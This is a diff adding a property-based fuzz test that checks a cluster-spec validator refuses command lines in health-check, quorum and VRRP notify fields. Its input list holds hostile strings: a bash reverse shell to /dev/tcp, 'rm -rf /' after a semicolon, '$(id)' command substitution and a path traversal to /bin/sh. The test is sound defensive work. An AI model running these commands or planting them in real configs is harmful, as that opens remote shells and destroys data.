@@ -97,6 +97,80 @@ describe("fuzz: every parser answers or refuses cleanly", () => {
     );
   });
 
+  it("cluster specs never carry a program: any path or command line in a script field is refused, naming it", () => {
+    const base = {
+      name: "web",
+      vips: ["192.168.1.229"],
+      directors: [{ host: "lb-master", address: "192.168.1.252", role: "master", priority: 100 }],
+    };
+    const service = (extra: object) => ({
+      name: "http",
+      address: "192.168.1.229",
+      port: 80,
+      realServers: [{ address: "192.168.1.220", port: 80 }],
+      ...extra,
+    });
+    const places: [string, (command: string) => object][] = [
+      [
+        "services[0].realServers[0].healthChecks[0].path",
+        (c) => ({
+          services: [
+            service({
+              realServers: [{ address: "192.168.1.220", port: 80, healthChecks: [{ type: "misc", path: c }] }],
+            }),
+          ],
+        }),
+      ],
+      [
+        "services[0].realServers[0].healthChecks[0].script",
+        (c) => ({
+          services: [
+            service({
+              realServers: [{ address: "192.168.1.220", port: 80, healthChecks: [{ type: "misc", script: c }] }],
+            }),
+          ],
+        }),
+      ],
+      ["services[0].quorum.up", (c) => ({ services: [service({ quorum: { weight: 1, up: c } })] })],
+      ["services[0].quorum.down", (c) => ({ services: [service({ quorum: { weight: 1, down: c } })] })],
+      ...(["master", "backup", "fault", "stop", "any"] as const).map((key): [string, (command: string) => object] => [
+        `vrrp.instances[0].notify.${key}`,
+        (c) => ({
+          vrrp: { instances: [{ name: "VI_1", virtualRouterId: 51, vips: ["192.168.1.229"], notify: { [key]: c } }] },
+        }),
+      ]),
+    ];
+    // the attack inputs: programs, command lines, shell syntax, and random text with a slash or a blank
+    const command = fc.oneof(
+      fc.constantFrom(
+        "/bin/touch /tmp/pwned",
+        "/bin/sh -c 'id > /tmp/pwned'",
+        "bash -i >& /dev/tcp/198.18.0.1/4444 0>&1",
+        "../../bin/sh",
+        "check-web; rm -rf /",
+        "check-web $(id)",
+        "check web",
+        "/usr/local/bin/check.sh",
+      ),
+      fc
+        .tuple(fc.string({ maxLength: 20 }), fc.constantFrom("/", " ", "\t", "\n"), fc.string({ maxLength: 20 }))
+        .map(([a, sep, b]) => `${a}${sep}${b}`),
+    );
+    fc.assert(
+      fc.property(fc.constantFrom(...places), command, ([field, place], c) => {
+        let error: unknown;
+        try {
+          validate(ClusterSpec, { ...base, ...place(c) });
+        } catch (e) {
+          error = e;
+        }
+        expect(error).toBeInstanceOf(ValidationError);
+        expect((error as ValidationError).errors.map((e) => e.field)).toContain(field);
+      }),
+      RUNS,
+    );
+  });
+
   it("endpoints, identities, chat commands, targets, times, role maps, traffic settings", () => {
     fc.assert(
       fc.property(text(), (t) => {
